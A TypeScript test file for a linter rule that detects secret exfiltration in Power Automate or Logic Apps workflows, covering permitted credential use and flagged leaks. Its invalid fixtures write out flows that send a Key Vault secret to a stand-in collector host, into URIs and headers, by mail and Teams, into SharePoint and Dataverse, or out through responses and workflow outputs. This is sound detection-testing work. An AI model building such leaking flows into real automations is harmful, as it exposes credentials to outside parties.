import { fg121 } from '../../src/rules/fg121-secret-exfiltration.js';
import {
  flowFile,
  foreach,
  getSecret,
  http,
  scope,
  secretValueExpr,
  SHAPES,
} from '../helpers/flow-builders.js';
import { ruleTester, type InvalidCase, type RuleCase } from '../helpers/rule-tester.js';
import {
  compose,
  connector,
  envVarSecret,
  ifElse,
  initVar,
  secureInputs,
  switchOf,
  until,
} from './secret-fixtures.js';

type Shape = (typeof SHAPES)[number];
const S = { secureOutputs: true };
const secret = (shape: Shape) => `@${secretValueExpr(shape, 'Get_secret')}`;
const withSecret = (shape: Shape, actions: Record<string, unknown>) =>
  flowFile({ Get_secret: getSecret(shape, 'api-key', S), ...actions });

const valid: RuleCase[] = SHAPES.flatMap((shape) => [
  {
    name: `${shape}: secret only in credential slots`,
    flow: withSecret(shape, {
      Call: http({
        uri: 'https://api.example.com/items',
        headers: {
          Authorization: `Bearer @{${secretValueExpr(shape, 'Get_secret')}}`,
          'Ocp-Apim-Subscription-Key': secret(shape),
        },
        authentication: {
          type: 'ActiveDirectoryOAuth',
          tenant: 't',
          audience: 'a',
          clientId: 'c',
          secret: secret(shape),
        },
        body: { query: 'status' },
      }),
    }),
  },
  {
    name: `${shape}: client secret sent to the Microsoft identity platform token endpoint`,
    flow: withSecret(shape, {
      Init: initVar('secret', secret(shape)),
      Token: http({
        uri: "https://login.microsoftonline.com/@{parameters('tenant')}/oauth2/v2.0/token",
        headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
        body: "grant_type=client_credentials&client_id=abc&client_secret=@{encodeUriComponent(variables('secret'))}",
      }),
    }),
  },
  {
    name: `${shape}: secret sent to a configured allowed host`,
    options: { allowedHosts: ['vault-proxy.contoso.com'] },
    flow: withSecret(shape, {
      Call: http({ uri: 'https://vault-proxy.contoso.com/rotate', body: { value: secret(shape) } }),
    }),
  },
  {
    name: `${shape}: the response of an authenticated call is mailed (not secret)`,
    flow: withSecret(shape, {
      Call: http({
        uri: 'https://api.example.com',
        method: 'GET',
        headers: { Authorization: secret(shape) },
      }),
      Mail: connector('office365', 'SendEmailV2', {
        'emailMessage/To': 'a@contoso.com',
        'emailMessage/Body': "@{body('Call')}",
      }),
    }),
  },
  {
    name: `${shape}: secret kept inside the flow (variables, Compose, a read operation)`,
    flow: withSecret(shape, {
      Init: initVar('s', secret(shape)),
      Hold: compose("@variables('s')", secureInputs),
      Read: connector('office365', 'GetEmailsV3', { folderPath: "@{outputs('Hold')}" }),
    }),
  },
]);

const invalid: InvalidCase[] = SHAPES.flatMap((shape): InvalidCase[] => [
  {
    name: `${shape}: secret read directly into an HTTP body`,
    flow: withSecret(shape, {
      Send: http({ uri: 'https://collector.example.net/in', body: { leaked: secret(shape) } }),
    }),
    findings: [
      {
        action: 'Send',
        severity: 'critical',
        message: ['"Send" (HTTP POST)', 'from "Get_secret" (Azure Key Vault ', 'in body (http-body)'],
      },
    ],
  },
  {
    name: `${shape}: secret through a variable into a non-credential header and the URI`,
    flow: withSecret(shape, {
      Init: initVar('token', secret(shape)),
      Send: http({
        uri: "https://api.example.com/hook?code=@{variables('token')}",
        headers: { 'X-Secret': "@variables('token')" },
      }),
    }),
    findings: [
      { action: 'Send', severity: 'critical', message: ['headers.X-Secret (http-header)'] },
      { action: 'Send', severity: 'critical', message: ['in uri (http-uri)'] },
    ],
  },
  {
    name: `${shape}: secret through Compose mailed from a Switch case, posted to Teams in an If branch`,
    flow: withSecret(shape, {
      Hold: compose({ key: secret(shape) }),
      Pick: switchOf("@triggerBody()?['k']", {
        A: {
          Mail: connector('office365', 'SendEmailV2', { 'emailMessage/Body': "<p>@{outputs('Hold')}</p>" }),
        },
      }),
      Check: ifElse(true, {
        Chat: connector('teams', 'PostMessageToConversation', {
          'body/messageBody': "@{outputs('Hold')?['key']}",
        }),
      }),
    }),
    findings: [
      { action: 'Mail', severity: 'critical', message: ['(Office 365 Outlook SendEmailV2)', '(mail)'] },
      {
        action: 'Chat',
        severity: 'critical',
        message: ['(Microsoft Teams PostMessageToConversation)', '(chat)'],
      },
    ],
  },
  {
    name: `${shape}: secret written to SharePoint and Dataverse inside Scope, Foreach and Until`,
    flow: withSecret(shape, {
      Init: initVar('s', secret(shape)),
      Try: scope({
        Loop: foreach("@triggerBody()?['sites']", {
          File: connector('sharepointonline', 'CreateFile', {
            dataset: "@items('Loop')",
            body: "@variables('s')",
          }),
        }),
        Wait: until('@true', {
          Row: connector('commondataserviceforapps', 'CreateRecord', { 'item/cr_note': "@variables('s')" }),
        }),
      }),
    }),
    findings: [
      { action: 'File', severity: 'critical', message: ['(file)'] },
      { action: 'Row', severity: 'critical', message: ['(row)'] },
    ],
  },
  {
    name: `${shape}: a token endpoint on a host that is not an identity provider`,
    flow: withSecret(shape, {
      Send: http({
        uri: 'https://login.example.net/oauth2/v2.0/token',
        body: `client_secret=@{${secretValueExpr(shape, 'Get_secret')}}`,
      }),
    }),
    findings: [{ action: 'Send', severity: 'critical' }],
  },
]);

invalid.push(
  {
    name: 'secret returned by Response, Terminate, a child flow and the workflow outputs',
    flow: flowFile(
      {
        Get_env: envVarSecret('fg_ApiKey'),
        Reply: {
          type: 'Response',
          kind: 'Http',
          inputs: { statusCode: 200, body: "@body('Get_env')" },
          runAfter: {},
        },
        Child: {
          type: 'Workflow',
          inputs: { host: { workflowReferenceName: 'abc' }, body: { k: "@body('Get_env')" } },
          runAfter: {},
        },
        Stop: {
          type: 'Terminate',
          inputs: { runStatus: 'Failed', runError: { message: "@{body('Get_env')}" } },
          runAfter: {},
        },
      },
      undefined,
      { outputs: { leaked: { type: 'String', value: "@body('Get_env')?['EnvironmentVariableValue']" } } },
    ),
    findings: [
      { action: 'Reply', severity: 'critical', message: ['(response)'] },
      { action: 'Child', severity: 'critical', message: ['(child-flow)'] },
      { action: 'Stop', severity: 'critical', message: ['(terminate)'] },
      { action: null, severity: 'critical', message: ['The workflow output outputs.leaked'] },
    ],
  },
  {
    name: 'ApiConnection Office 365 send mail with a secret through a loop item',
    flow: flowFile({
      Get_secret: getSecret('ApiConnection', 'api-key', S),
      Loop: foreach("@createArray(body('Get_secret')?['value'])", {
        Mail: {
          type: 'ApiConnection',
          inputs: {
            host: { connection: { name: "@parameters('$connections')['office365']['connectionId']" } },
            method: 'post',
            path: '/v2/Mail',
            body: { To: 'ops@contoso.com', Body: "@{items('Loop')}" },
          },
          runAfter: {},
        },
      }),
    }),
    findings: [{ action: 'Mail', severity: 'critical', message: ['(mail)'] }],
  },
);

ruleTester(fg121, { valid, invalid });
